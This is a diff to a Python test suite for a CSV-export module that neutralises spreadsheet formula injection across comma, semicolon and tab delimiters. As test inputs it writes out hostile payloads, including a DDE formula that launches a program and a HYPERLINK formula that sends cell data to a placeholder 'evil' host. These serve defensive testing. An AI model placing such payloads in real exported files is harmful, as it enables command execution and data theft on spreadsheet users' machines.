@@ -1,10 +1,10 @@
-"""No cell of a CSV file begins like a formula, whatever text it comes from, and every other cell is unchanged."""
+"""No cell of a CSV file begins like a formula, whatever text it comes from and wherever a spreadsheet splits it, and every other text is unchanged."""
 
 import csv
 import io
 
 import pytest
-from hypothesis import example, given
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from tollway.csv_text import DISARM_MARK, FORMULA_STARTS, csv_cells, csv_line
@@ -12,23 +12,69 @@ from tollway.csv_text import DISARM_MARK, FORMULA_STARTS, csv_cells, csv_line
 RUN_BY_SPREADSHEETS = ("=", "+", "-", "@", "\t", "\r")
 """Of docs/accountants and of OWASP's page on CSV injection, written here again: the table of the code must not shrink with its test."""
 
-texts = st.one_of(
-    st.text(),
-    st.builds(lambda start, rest: start + rest, st.sampled_from([*FORMULA_STARTS, '"', "'", ","]), st.text()),
+DELIMITERS = (",", ";", "\t")
+"""Excel splits a file at the list separator of the system: `;` in most of Europe. A tab is what a paste and an import dialog split at."""
+
+parts = st.one_of(
+    st.text(max_size=4),
+    st.sampled_from([*FORMULA_STARTS, '"', '""', "'", ",", ";", "\t", "\r", "\n", "\r\n", " ", "1", "a"]),
+)
+texts = st.lists(parts, max_size=8).map("".join).filter(lambda text: "\0" not in text)
+"""Text of every kind, most of it made of what a reader of CSV splits at and what begins a formula."""
+NUMBERS = ("0", "12", "0.010000", "-0.5", "2026-11-21T09:15:00.007Z")
+
+
+def split(text: str, delimiter: str) -> list[str]:
+    """The cells of a file, as a spreadsheet with this delimiter reads them."""
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
+
+
+@settings(max_examples=2_000, derandomize=True)
+@given(st.lists(st.one_of(texts, st.sampled_from(NUMBERS)), min_size=1, max_size=6))
+@example(["x", "k;=cmd|'/C calc'!A0;z"])
+@example(["x", "/a;=1+1;b"])
+@example(["x", 'Weather;=HYPERLINK("http://evil/?"&A1);x'])
+@example(["x", 'a;"=1', "y"])
+@example(["x", "a\n=1", "y"])
+@example(["a\t=1", "y"])
+@example(["a\r\n=1", 'b,";\t@', "-1"])
+def test_no_cell_begins_like_a_formula_wherever_a_spreadsheet_splits(values: list[str]) -> None:
+    line = csv_line(values)
+    for delimiter in DELIMITERS:
+        found = [cell for cell in split(line, delimiter) if cell.startswith(RUN_BY_SPREADSHEETS)]
+        assert not found, (delimiter, line)
+
+
+@pytest.mark.parametrize("delimiter", DELIMITERS)
+@pytest.mark.parametrize("start", [*RUN_BY_SPREADSHEETS, "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+@pytest.mark.parametrize("before", ["", ";", "\t", '"', ",", "a;", "a\t", 'a;"', "a\n", ";;", "\t;"])
+def test_every_formula_start_behind_every_split_is_disarmed(delimiter: str, start: str, before: str) -> None:
+    line = csv_line(["first", f"{before}{start}1+1", "last"])
+    assert not [cell for cell in split(line, delimiter) if cell.startswith(start)], line
+
+
+@settings(derandomize=True)
+@given(texts)
+def test_a_cell_without_its_marks_is_its_text(text: str) -> None:
+    """The mark is an addition: nothing else of a text changes, and a text without a formula has none."""
+    (cell,) = csv_cells([text])
+    assert [char for char in cell if char != DISARM_MARK] == [char for char in text if char != DISARM_MARK]
+    assert len(cell) >= len(text)
+
+
+HONEST = (
+    *("Weather", "a;b", "a-b", "a; -1", "1+1", "a@b.example", "/v1/cities/berlin?x=1;y=2", 'say "x"'),
+    *("order-1", "a\r\nb", "tab\there", "", "0x00", "Preis: 5\u2212", "it's"),
 )
 
 
-@given(texts)
-@example('=HYPERLINK("https://example.com/?"&A1)')
-@example("\t=1+1")
-@example("\r\n=1")
-def test_no_cell_begins_like_a_formula(text: str) -> None:
-    (cell,) = csv_cells([text])
-    assert not cell.startswith(RUN_BY_SPREADSHEETS)
-    assert cell in (text, DISARM_MARK + text)
-    assert (cell == text) == (not text.startswith(FORMULA_STARTS))
+@pytest.mark.parametrize("text", HONEST)
+def test_an_honest_text_comes_back_as_it_is(text: str) -> None:
+    (row,) = csv.reader(io.StringIO(csv_line([text, "end"]), newline=""))
+    assert row == [text, "end"]
 
 
+@settings(derandomize=True)
 @given(st.lists(st.text(alphabet=st.characters(exclude_categories=["Cs"])), min_size=2, max_size=8))
 def test_a_line_has_the_cells_back_when_it_is_read(values: list[str]) -> None:
     (row,) = csv.reader(io.StringIO(csv_line(values), newline=""))
